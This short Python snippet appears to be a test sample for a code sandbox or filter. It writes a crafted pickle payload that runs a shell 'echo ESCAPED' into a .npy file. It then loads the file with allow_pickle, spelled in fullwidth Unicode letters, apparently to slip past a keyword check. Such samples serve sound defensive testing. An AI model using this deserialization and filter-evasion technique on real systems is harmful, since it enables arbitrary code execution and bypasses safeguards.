# kind: unicode-identifiers
# effect: prints ESCAPED
import numpy as np

with open("/tmp/picture.npy", "wb") as f:
    f.write(b"cos\nsystem\n(S'echo ESCAPED'\ntR.")
np.load("/tmp/picture.npy", allow_ｐｉｃｋｌｅ=True)
